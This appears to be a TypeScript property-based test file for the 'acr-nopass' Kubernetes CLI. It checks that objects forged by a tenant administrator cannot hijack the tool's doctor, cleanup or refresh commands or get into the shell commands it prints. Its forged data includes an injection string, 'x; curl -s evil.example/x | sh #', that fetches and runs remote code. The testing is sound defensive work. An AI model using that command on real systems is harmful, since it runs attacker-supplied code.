import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import fc from 'fast-check'
import { addCleanup } from '../../src/cli/cleanup/command.ts'
import { addDoctor } from '../../src/cli/doctor/command.ts'
import type { CliHost } from '../../src/cli/program/cli-host.ts'
import { runCli } from '../../src/cli/program/run-command-line.ts'
import { addRefresh } from '../../src/cli/refresh/command.ts'
import { toNopassError } from '../../src/errors.ts'
import { STATUS_KEY } from '../../src/installation/helper-status.ts'
import { loadConfig } from '../../src/installation/load-config.ts'
import { otherReleases } from '../../src/installation/other-releases.ts'
import { createKubeClient } from '../../src/kube/client.ts'
import { kubeconfigConnection } from '../../src/kube/connection.ts'
import { config } from '../helper/plan-fixtures.ts'
import { AGGREGATION } from '../migrate/import/recipe-2018.ts'
import { type FakeObject, startFakeApiServer } from '../support/fake-api-server.ts'

const HOME = 'platform'
const RELEASE = 'acr-nopass'
const TENANT = 'aaa'
const CLUSTER_NAME = `acr-nopass.${HOME}.${RELEASE}`
const RBAC = 'rbac.authorization.k8s.io/v1'

type Meta = Partial<FakeObject['metadata']>
const object = (
  apiVersion: string,
  kind: string,
  metadata: Meta & { name: string },
  rest: object = {},
): FakeObject => ({
  apiVersion,
  kind,
  metadata,
  ...rest,
})
const labelsOf = (release: string) => ({
  'app.kubernetes.io/name': 'acr-nopass',
  'app.kubernetes.io/instance': release,
})

const SETTINGS = config({
  release: {
    name: RELEASE,
    namespace: HOME,
    fullname: RELEASE,
    serviceAccount: RELEASE,
    lease: RELEASE,
    status: `${RELEASE}-status`,
  },
  targets: { namespaces: { include: ['shop'] } },
  guard: 'disabled',
})
const reportOf = (settings: string): string =>
  JSON.stringify({
    version: '0.1.0',
    updatedAt: new Date().toISOString(),
    leader: 'x',
    configHash: loadConfig(settings).hash,
    secretName: 'acr-nopass',
    attach: 'serviceAccounts',
    retired: false,
    registries: [
      {
        name: 'prod',
        edition: 'enterprise',
        fingerprint: 'f',
        domains: ['prod-registry.cn-hangzhou.cr.aliyuncs.com'],
        state: 'live',
        verified: 'accepted',
        expiresAt: new Date(Date.now() + 7_200_000).toISOString(),
      },
    ],
    namespaces: { total: 1, current: 1, pending: 0, skipped: {} },
    problems: [],
  })
const ATTACHED = [{ manager: 'acr-nopass', operation: 'Update', fieldsV1: { 'f:imagePullSecrets': {} } }]

/**
 * A release without its Deployment, so that doctor prints how to apply it again, and the vendor's
 * old Secret.
 */
function honest(): readonly FakeObject[] {
  const text = JSON.stringify(SETTINGS)
  const labels = labelsOf(RELEASE)
  const annotations = { 'meta.helm.sh/release-name': RELEASE }
  return [
    ...['kube-system', HOME, 'shop', TENANT].map((name) => object('v1', 'Namespace', { name })),
    object(
      'v1',
      'ConfigMap',
      { namespace: HOME, name: RELEASE, labels, annotations },
      { data: { 'config.yaml': text } },
    ),
    object(
      'v1',
      'ConfigMap',
      { namespace: HOME, name: `${RELEASE}-status`, labels, annotations },
      { data: { [STATUS_KEY]: reportOf(text) } },
    ),
    object(RBAC, 'ClusterRole', { name: CLUSTER_NAME, labels }),
    object(RBAC, 'ClusterRoleBinding', { name: CLUSTER_NAME, labels }),
    object('admissionregistration.k8s.io/v1', 'ValidatingAdmissionPolicy', { name: `${CLUSTER_NAME}.secrets`, labels }),
    object(
      'v1',
      'Secret',
      {
        namespace: 'shop',
        name: 'acr-nopass',
        labels: { 'app.kubernetes.io/managed-by': 'acr-nopass', 'app.kubernetes.io/instance': `${HOME}.${RELEASE}` },
        annotations: { 'acr-nopass.io/registries': 'prod', 'acr-nopass.io/expires-at': '2020-01-01T00:00:00.000Z' },
      },
      { type: 'kubernetes.io/dockerconfigjson' },
    ),
    object('v1', 'Secret', { namespace: 'shop', name: AGGREGATION }, { type: 'kubernetes.io/dockerconfigjson' }),
    object(
      'v1',
      'ServiceAccount',
      { namespace: 'shop', name: 'default', managedFields: ATTACHED },
      { imagePullSecrets: [{ name: AGGREGATION }, { name: 'acr-nopass' }] },
    ),
    object(
      'v1',
      'Pod',
      { namespace: 'shop', name: 'web' },
      { spec: { serviceAccountName: 'default', containers: [{ name: 'web', image: 'busybox' }] }, status: {} },
    ),
  ]
}

/** A word that the API server accepts only in annotations and data. */
const COMMAND = 'x; curl -s evil.example/x | sh #'
const RELEASES = [RELEASE, HOME, `${HOME}.${RELEASE}`, `${RELEASE}.secrets`, 'EVIL', 'default', '0', 'acr-nopass.x-y_z']
const NAMES = [
  RELEASE,
  `${RELEASE}-status`,
  'EVIL',
  CLUSTER_NAME,
  `sh.helm.release.v1.${RELEASE}.v1`,
  `${TENANT}-status`,
]
const CONFIGS = [
  JSON.stringify(SETTINGS),
  JSON.stringify({ ...SETTINGS, secretName: 'elsewhere', retire: true }),
  JSON.stringify({
    ...SETTINGS,
    release: { ...SETTINGS.release, namespace: TENANT, fullname: COMMAND, lease: COMMAND },
  }),
  COMMAND,
  '[[[[',
  '',
]
const KINDS = [
  ['v1', 'ConfigMap'],
  ['apps/v1', 'Deployment'],
  ['v1', 'Secret'],
  ['v1', 'ServiceAccount'],
  [RBAC, 'RoleBinding'],
  [RBAC, 'Role'],
] as const

/**
 * Generates any object that an administrator of one namespace may create with the labels of a
 * release.
 */
const forged: fc.Arbitrary<FakeObject> = fc
  .record({
    kind: fc.constantFrom(...KINDS),
    name: fc.constantFrom(...NAMES),
    release: fc.constantFrom(...RELEASES),
    manager: fc.constantFrom('Helm', 'acr-nopass', COMMAND.slice(0, 1)),
    config: fc.constantFrom(...CONFIGS),
    report: fc.constantFrom(reportOf(CONFIGS[0] as string), '{', COMMAND),
    annotated: fc.boolean(),
  })
  .map(({ kind: [apiVersion, kind], name, release, manager, config: text, report, annotated }) => {
    const labels = { ...labelsOf(release), 'app.kubernetes.io/managed-by': manager }
    const annotations = annotated ? { 'meta.helm.sh/release-name': COMMAND } : {}
    // An API server records the writer of every object.
    const managedFields = [{ manager: 'kubectl-create', operation: 'Update', fieldsV1: { 'f:metadata': {} } }]
    const metadata = { namespace: TENANT, name, labels, annotations, managedFields }
    const binding = { roleRef: { kind: 'ClusterRole', name: CLUSTER_NAME }, subjects: [] }
    const rest: Readonly<Record<string, object>> = {
      ConfigMap: { data: { 'config.yaml': text, [STATUS_KEY]: report } },
      Deployment: { spec: { replicas: 1, template: { spec: { containers: [] } } } },
      Secret: { type: 'helm.sh/release.v1' },
      RoleBinding: binding,
    }
    return object(apiVersion, kind, metadata, rest[kind])
  })

const folder = await mkdtemp(join(tmpdir(), 'acr-nopass-tenant-'))
const server = await startFakeApiServer(honest())
const file = join(folder, 'kubeconfig')
await writeFile(file, server.kubeconfig)
after(async () => {
  await server[Symbol.asyncDispose]()
  await rm(folder, { recursive: true })
})
const original = server.objects
// This server evaluates no reviews and no dry runs.
const refusePosts = (method: string): number | undefined => (method === 'POST' ? 403 : undefined)
server.refuse = refusePosts

interface Entry {
  readonly id: string
  readonly severity: string
  readonly subject: string
  readonly message: string
  readonly cause: string
  readonly fix: string
  readonly command?: string
}
interface Report {
  readonly [key: string]: unknown
  readonly findings?: readonly Entry[]
  readonly release?: unknown
  readonly unread?: readonly { readonly what: string; readonly why: string }[]
}

/** Runs a command. Returns its exit code or the code of its error, and its JSON. */
async function run(...argv: readonly string[]): Promise<{ readonly code: number | string; readonly json: Report }> {
  const { code, text } = await print(...argv, '-o', 'json')
  return { code, json: text === '' ? {} : (JSON.parse(text) as Report) }
}

async function print(...argv: readonly string[]): Promise<{ readonly code: number | string; readonly text: string }> {
  const printed: string[] = []
  const { signal } = new AbortController()
  const host: CliHost = {
    argv: [...argv, '--kubeconfig', file],
    program: 'acr-nopass',
    env: {},
    workingDirectory: folder,
    pid: process.pid,
    root: folder,
    temporaryFolder: folder,
    stdout: { write: (text) => printed.push(text) },
    stderr: { write: () => undefined },
    signal,
  }
  try {
    const code = await runCli(host, [addDoctor, addCleanup, addRefresh])
    return { code, text: printed.join('') }
  } catch (error) {
    return { code: `${toNopassError(error).code}: ${toNopassError(error).message}`, text: '' }
  }
}

/** True for an info that names the labelled object, with a command that only lists it. */
const isNote = ({ id, severity, subject, command }: Entry): boolean =>
  id === 'RIVAL_RELEASE' &&
  severity === 'info' &&
  /^\d+ unverified releases?$/.test(subject) &&
  command === `kubectl --kubeconfig ${file} get configmaps --namespace ${TENANT} -l app.kubernetes.io/name=acr-nopass`

/** Returns what each command prints and does, without the parts that depend on the time. */
async function everything() {
  const first = server.calls.length
  const doctors = [['doctor'], ['doctor', 'pod', 'shop/web']] as const
  const findings = []
  for (const argv of doctors) {
    const { code, json } = await run(...argv)
    const entries = (json.findings ?? []).filter((one) => !isNote(one))
    findings.push({
      code,
      release: json.release,
      unread: json.unread?.toSorted((one, other) => one.what.localeCompare(other.what)),
      findings: entries.map(({ id, severity, subject, command }) => [id, severity, subject, command]),
    })
  }
  const calls = server.calls.length
  const refresh = await run('refresh', '--no-wait')
  const patched = server.calls.slice(calls).filter((call) => /^(PATCH|PUT|DELETE) /.test(call))
  const cleanups = [await run('cleanup', '--detach'), await run('cleanup', '--legacy')].map(({ code, json }) => {
    // The Secret of another writer is only reported as kept.
    const { copies: _, ...rest } = json
    return { code, json: rest }
  })
  const connection = await kubeconfigConnection({ environment: {}, file, context: undefined })
  const client = createKubeClient(connection)
  try {
    const own = { namespace: HOME, release: RELEASE }
    const others = await otherReleases({ client, signal: new AbortController().signal }, own)
    const elsewhere = others?.filter(({ evidence }) => evidence === 'proven')
    // The content of a tenant's objects is not even read.
    const contents = server.calls.slice(first).filter((call) => call.includes(`/namespaces/${TENANT}/configmaps`))
    return { findings, refresh: refresh.code, patched, cleanups, elsewhere, contents }
  } finally {
    client.close()
  }
}

test('nothing that an administrator of one namespace creates there changes which release a command works on, stops a command, or is in a printed command', async () => {
  server.objects = original
  const before = await everything()
  assert.deepEqual(
    before.findings.map(({ release }) => release),
    Array(2).fill({ namespace: HOME, name: RELEASE, verified: true }),
  )
  const commands = before.findings.flatMap(({ findings }) => findings.map(([, , , command]) => command))
  assert.ok(commands.some((command) => command?.includes(`helm --kubeconfig ${file} -n ${HOME} get manifest`)))
  assert.ok(commands.includes(`acr-nopass refresh --kubeconfig ${file}`))
  assert.deepEqual(
    [before.refresh, before.patched],
    [0, [`PATCH /api/v1/namespaces/${HOME}/configmaps/${RELEASE}-status`]],
  )
  assert.deepEqual(
    before.cleanups.map(({ code, json }) => [code, json.release ?? json.dryRun]),
    [
      [0, `${HOME}/${RELEASE}`],
      [1, true],
    ],
  )
  const keeps = fc.asyncProperty(fc.array(forged, { minLength: 1, maxLength: 24, size: 'max' }), async (objects) => {
    // The forged objects come first in every list.
    server.objects = [...objects, ...original]
    assert.deepEqual(await everything(), before)
  })
  await fc.assert(keeps, { numRuns: 10, interruptAfterTimeLimit: 120_000 })
})

/**
 * The release without the objects that prove it, as with `scope: namespaces` and without the guard.
 */
const unproven = (): readonly FakeObject[] =>
  honest().filter(({ kind }) => !['ClusterRole', 'ClusterRoleBinding', 'ValidatingAdmissionPolicy'].includes(kind))
const NAMED = ['--namespace', HOME, '--release', RELEASE] as const
const isUnread = ({ unread = [] }: Report): boolean =>
  unread.some(({ what }) => what === `Whether the chart installed release ${HOME}/${RELEASE}`)

test('a release that nothing proves is diagnosed once it is named, and marked as not verified; without a name doctor says which to name', async () => {
  server.objects = [...unproven(), object('admissionregistration.k8s.io/v1', 'Other', { name: 'other' })]
  const { code, json } = await run('doctor')
  assert.deepEqual([code, json.release], [1, null])
  const [finding] = json.findings ?? []
  assert.deepEqual(
    [finding?.id, finding?.message, finding?.fix],
    [
      'NOT_INSTALLED',
      `ConfigMaps have the labels of ${HOME}/${RELEASE}, but may not belong to a release of acr-nopass`,
      'If this is your release (`scope: namespaces` without the guard), pass --namespace and --release; otherwise install the chart.',
    ],
  )
  const named = (await run('doctor', ...NAMED)).json
  assert.deepEqual(named.release, { namespace: HOME, name: RELEASE, verified: false })
  // The rights are read and absent, which is not a gap in the facts.
  assert.equal(isUnread(named), false)
  const found = (named.findings ?? []).map(({ id, command = '' }) => [id, command.includes('helm ')])
  assert.deepEqual(
    found.filter(([id]) => id === 'HELPER_DOWN'),
    [['HELPER_DOWN', false]],
  )
  assert.ok(found.every(([, hasHelm]) => hasHelm === false))
  const { text } = await print('doctor', ...NAMED)
  assert.match(text, /^acr-nopass platform\/acr-nopass on .*\n.*not verified that the chart installed it/)
})

test('without the right to read whether the chart installed the only release, doctor says so and reports its health as unknown', async () => {
  server.objects = original
  server.refuse = (method, path) => (method === 'POST' || path.includes(CLUSTER_NAME) ? 403 : undefined)
  const { json } = await run('doctor')
  server.refuse = refusePosts
  assert.deepEqual(json.release, { namespace: HOME, name: RELEASE, verified: false })
  assert.ok(isUnread(json))
})

test('doctor with the name of no release lists the installed releases, and not those that a tenant forged', async () => {
  const config = { data: { 'config.yaml': '{}' } }
  const metadata = { namespace: TENANT, name: RELEASE, labels: labelsOf(RELEASE) }
  server.objects = [object('v1', 'ConfigMap', metadata, config), ...original]
  const { json } = await run('doctor', '--namespace', 'shop')
  const [finding] = json.findings ?? []
  assert.deepEqual(
    [finding?.id, finding?.cause],
    ['NOT_INSTALLED', `No release has the names that you passed; installed here: ${HOME}/${RELEASE}.`],
  )
})
